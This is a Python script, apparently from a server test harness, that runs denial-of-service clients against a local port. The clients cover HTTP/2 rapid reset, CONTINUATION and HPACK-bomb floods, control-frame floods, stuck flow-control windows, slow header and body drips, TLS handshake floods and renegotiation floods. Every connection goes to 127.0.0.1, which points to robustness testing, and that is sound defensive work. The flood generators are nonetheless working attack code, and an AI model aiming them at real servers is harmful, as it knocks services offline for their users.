"""Clients that cost a server more than they bring, each kind a process of its own: `flood_drivers.py KIND PORT SECONDS`. They go
on until their time is over, with a new connection whenever they lose one, and print how often that was."""

import select
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Optional

from hpack import Encoder

from harness.frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, WINDOW_UPDATE,
                            frame, settings)
from harness.tls import client_hello


def block(path: str = "/", *fields: tuple[str, str], method: str = "GET") -> bytes:
    head = [(":method", method), (":scheme", "http"), (":authority", "flood.example"), (":path", path), *fields]
    return bytes(Encoder().encode(head, huffman=False))


def get(stream: int, path: str = "/") -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path))


# --- HTTP/2: what one connection sends, piece by piece, until it is cut off. None of them reads.

def rapid_reset() -> Iterator[bytes]:
    head = block()
    yield settings()
    for first in range(1, 1 << 30, 100):
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                       for stream in range(first, first + 100, 2))


def continuations() -> Iterator[bytes]:
    head = block("/", ("x-long", "y" * 60000))
    yield settings() + frame(HEADERS, END_STREAM, 1, head[:1])
    for at in range(1, len(head), 100):
        yield b"".join(frame(CONTINUATION, 0, 1, head[i:i + 1]) for i in range(at, min(at + 100, len(head))))


def header_lists() -> Iterator[bytes]:
    yield settings()
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + b"\0\1x\0" * 4000)


def hpack_bombs() -> Iterator[bytes]:
    yield settings()
    bomb = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12000  # a field of 4000 bytes, and again for a byte each
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + bomb)


def forever(first: bytes, piece: bytes) -> Callable[[], Iterator[bytes]]:
    def pieces() -> Iterator[bytes]:
        yield first
        while True:
            yield piece

    return pieces


def too_many_streams() -> Iterator[bytes]:
    yield settings((4, 0))  # nothing of the answers has room
    for first in range(1, 1 << 30, 200):
        yield b"".join(get(stream, "/large") for stream in range(first, first + 200, 2))


POST = frame(HEADERS, END_HEADERS, 1, block("/silent", method="POST"))
FRAMES: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid_reset": rapid_reset,
    "continuations": continuations,
    "header_lists": header_lists,
    "hpack_bombs": hpack_bombs,
    "settings": forever(settings(), settings((3, 100)) * 200),
    "pings": forever(settings(), frame(PING, 0, 0, b"12345678") * 200),
    "priorities": forever(settings() + POST, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 200),
    "window_updates": forever(settings() + POST, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 200),
    "empty_frames": forever(settings() + POST, frame(DATA, 0, 1) * 200),
    "stray_data": forever(settings() + POST + frame(RST_STREAM, 0, 1, b"\0\0\0\x08"), frame(DATA, 0, 1, b"x") * 1000),
    "too_many_streams": too_many_streams,
}


class Driver:
    def __init__(self, port: int, end: float):
        self.port = port
        self.end = end
        self.connections = 0

    def going_on(self) -> bool:
        return time.monotonic() < self.end

    def connect(self) -> socket.socket:
        self.connections += 1
        return socket.create_connection(("127.0.0.1", self.port), timeout=5)

    def send_frames(self, pieces: Callable[[], Iterator[bytes]]) -> None:
        while self.going_on():
            with self.connect() as sock:
                sock.settimeout(0.5)
                try:
                    sock.sendall(PREFACE)
                    for piece in pieces():
                        sock.sendall(piece)
                        if not self.going_on():
                            return
                    while self.going_on() and sock.recv(1 << 16):
                        pass
                except OSError:
                    pass  # cut off, or nobody reads

    # --- Windows that stay closed, over as many streams as there may be.
    def stuck_windows(self) -> None:
        held = []
        while self.going_on():
            if len(held) < 8:
                sock = self.connect()
                sock.settimeout(2)
                try:
                    sock.sendall(PREFACE + settings((4, 0)) + b"".join(get(1 + 2 * i, "/large") for i in range(100)))
                except OSError:
                    pass
                held.append(sock)
            time.sleep(0.05)
            for sock in list(held):
                if select.select([sock], [], [], 0)[0]:
                    try:
                        ended = not sock.recv(1 << 16)
                    except OSError:
                        ended = True
                    if ended:
                        sock.close()
                        held.remove(sock)

    # --- Those that take their time: `count` connections with `first` and then a byte of the text at a time.
    def drip(self, count: int, first: bytes, text: bytes, pause: float = 0.05) -> None:
        open_ones: dict[socket.socket, int] = {}
        while self.going_on():
            while len(open_ones) < count and self.going_on():
                try:
                    sock = self.connect()
                    sock.sendall(first)
                    open_ones[sock] = 0
                except OSError:
                    break
            for sock, at in list(open_ones.items()):
                try:
                    if select.select([sock], [], [], 0)[0] and not sock.recv(1 << 16):
                        raise ConnectionError
                    sock.sendall(text[at:at + 1] or b"x")
                    open_ones[sock] = at + 1
                except OSError:
                    sock.close()
                    del open_ones[sock]
            time.sleep(pause)

    # --- Handshakes that cost the server a signature and the client nothing.
    def handshakes(self) -> None:
        hello = client_hello()
        while self.going_on():
            burst = []
            for _ in range(24):
                sock = self.connect()
                sock.sendall(hello)
                burst.append(sock)
            for sock in burst:
                try:
                    sock.recv(1 << 16)
                except OSError:
                    pass
                sock.close()

    def renegotiations(self) -> None:
        while self.going_on():
            self.connections += 1
            asks = subprocess.Popen(["openssl", "s_client", "-connect", "127.0.0.1:%d" % self.port, "-tls1_2"], stdin=subprocess.PIPE,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            assert asks.stdin is not None
            try:
                time.sleep(0.1)
                asks.stdin.write(b"R\n")
                asks.stdin.flush()
                asks.wait(3)
            except (OSError, subprocess.TimeoutExpired):
                asks.kill()
            asks.wait()


def run(kind: str, driver: Driver) -> None:
    frames: Optional[Callable[[], Iterator[bytes]]] = FRAMES.get(kind)
    if frames is not None:
        driver.send_frames(frames)
    elif kind == "slow_handshakes":
        driver.drip(300, b"", client_hello())
    elif kind == "slow_heads":
        driver.drip(300, b"", b"GET / HTTP/1.1\r\nhost: flood.example\r\nx-late: ")
    elif kind == "slow_bodies":
        driver.drip(100, b"POST /silent HTTP/1.1\r\nhost: flood.example\r\ncontent-length: 100000\r\n\r\n", b"")
    elif kind == "stuck_windows":
        driver.stuck_windows()
    elif kind == "handshakes":
        driver.handshakes()
    elif kind == "renegotiations":
        driver.renegotiations()
    else:
        raise SystemExit("no such flood: " + kind)


if __name__ == "__main__":
    the_driver = Driver(int(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
    print("begins", flush=True)
    # Whoever is cut off takes a second to notice: several at a time.
    threads = [threading.Thread(target=run, args=(sys.argv[1], the_driver)) for _ in range(4 if sys.argv[1] in FRAMES else 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print("%d connections" % the_driver.connections)
